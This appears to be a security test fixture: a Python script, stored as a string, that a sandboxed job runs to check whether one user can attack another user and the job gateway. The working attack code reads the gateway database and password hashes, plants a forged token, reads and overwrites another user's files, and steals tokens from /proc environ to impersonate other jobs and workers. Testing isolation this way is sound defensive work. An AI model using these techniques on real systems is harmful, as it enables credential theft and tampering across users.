"""The program user A runs as a job to attack user B and the gateway.

It tries everything the issue's attacker did, and saves what happened as its JSON result:
``{attempt: "ok: ..." | "denied: ..."}``. It needs nothing but the standard library (a job of
the ``users`` sandbox may run on a system Python without qsrv); the attempts that need qsrv
say "n/a" when it cannot be imported. What it knows (the gateway's data directory, B's ids,
the cluster's address) comes in its arguments: an attacker can guess or learn all of it.
"""

ATTACK = r'''
import hashlib, json, os, sqlite3, time, urllib.request

args = json.load(open(os.environ["ARGUMENTS_PATH"]))
out = {}

def attempt(name, fn):
    try:
        out[name] = "ok: " + str(fn())[:200]
    except Exception as exc:
        out[name] = f"denied: {type(exc).__name__}: {exc}"[:300]

data = args["data_dir"]

def read_db():
    with open(os.path.join(data, "gateway.sqlite3"), "rb") as f:
        head = f.read(16)
    assert head.startswith(b"SQLite format 3"), head
    return "read the gateway's database"

def list_data_dir():
    return sorted(os.listdir(data))

def db_secrets():
    conn = sqlite3.connect(f"file:{data}/gateway.sqlite3?mode=ro", uri=True, timeout=2)
    (hashes,) = conn.execute("SELECT COUNT(*) FROM passwords").fetchone()
    results = conn.execute("SELECT COUNT(*) FROM jobs WHERE user_id != ? AND result IS NOT NULL",
                           (args["alice_id"],)).fetchone()[0]
    assert hashes or results
    return f"{hashes} password hashes, {results} results of other users"

def insert_token():
    conn = sqlite3.connect(os.path.join(data, "gateway.sqlite3"), timeout=5)
    conn.execute("INSERT INTO tokens (token_hash, user_id, created_at) VALUES (?, ?, ?)",
                 (hashlib.sha256(args["planted"].encode()).hexdigest(), args["bob_id"],
                  time.time()))
    conn.commit()
    return "a token for bob"

def read_bob_files():
    path = os.path.join(data, "files", str(args["bob_id"]), args["bob_title"], "secret.txt")
    text = open(path).read()
    assert args["bob_secret"] in text
    return "read bob's file"

def read_bob_job():
    path = os.path.join(data, "jobs", args["bob_job"], "arguments.json")
    text = open(path).read()
    assert args["bob_secret"] in text
    return "read bob's running job's arguments"

def write_bob_job():
    path = os.path.join(data, "jobs", args["bob_job"], "results.json")
    with open(path, "w") as f:
        f.write(json.dumps({"forged": True}))
    return "wrote bob's result"

stolen = {}

def scan_environ():
    seen = []
    for pid in os.listdir("/proc"):
        if not pid.isdigit() or int(pid) == os.getpid():
            continue
        try:
            raw = open(f"/proc/{pid}/environ", "rb").read()
        except OSError:
            continue
        env = dict(kv.split("=", 1) for kv in raw.decode(errors="replace").split("\0")
                   if "=" in kv)
        if env.get("ENV_JOB_ID_GATEWAY") == args["bob_job"] and "ENV_JOB_GATEWAY_TOKEN" in env:
            stolen["bob_job_token"] = env["ENV_JOB_GATEWAY_TOKEN"]
        token = env.get("QSRV_TOKEN", "")
        if token and not token.startswith("qsrvcred:"):
            stolen.setdefault("cluster_tokens", []).append(token)
        seen.append(pid)
    assert stolen, f"read {len(seen)} environments, found no one else's secret"
    return sorted(stolen)

def post_bob_event():
    token = stolen["bob_job_token"]
    req = urllib.request.Request(
        f"{args['gateway']}/api/v1/jobs/{args['bob_job']}/event", method="POST",
        data=json.dumps({"type": "ERROR", "message": "forged"}).encode(),
        headers={"Authorization": f"Bearer {token}", "Content-Type": "application/json"})
    return urllib.request.urlopen(req, timeout=10).status

def as_worker(*tokens):
    from qsrv.transport import SyncConnection
    errors = []
    for token in tokens:  # other clusters' processes may run on this machine too
        try:
            SyncConnection(args["cluster"], token, "worker", timeout=10).close()
            return "registered as a worker"
        except Exception as exc:
            errors.append(exc)
    raise errors[0] if errors else LookupError("no token to try")

def own_credential_as_driver():
    from qsrv.transport import SyncConnection
    SyncConnection(args["cluster"], os.environ["QSRV_TOKEN"], "driver", timeout=10).close()
    return "connected as a driver"

try:
    import qsrv.transport  # noqa: F401
    have_qsrv = True
except ImportError:
    have_qsrv = False

attempt("read_db", read_db)
attempt("list_data_dir", list_data_dir)
attempt("db_secrets", db_secrets)
attempt("insert_token", insert_token)
attempt("read_bob_files", read_bob_files)
attempt("read_bob_job", read_bob_job)
attempt("write_bob_job", write_bob_job)
attempt("scan_environ", scan_environ)
attempt("post_bob_event", post_bob_event)
if have_qsrv and args.get("cluster"):
    attempt("worker_own_credential", lambda: as_worker(os.environ["QSRV_TOKEN"]))
    attempt("worker_stolen_token", lambda: as_worker(*stolen.get("cluster_tokens", [])))
    attempt("driver_own_credential", own_credential_as_driver)
with open(os.environ["RESULTS_PATH"], "w") as f:
    json.dump(out, f)
'''
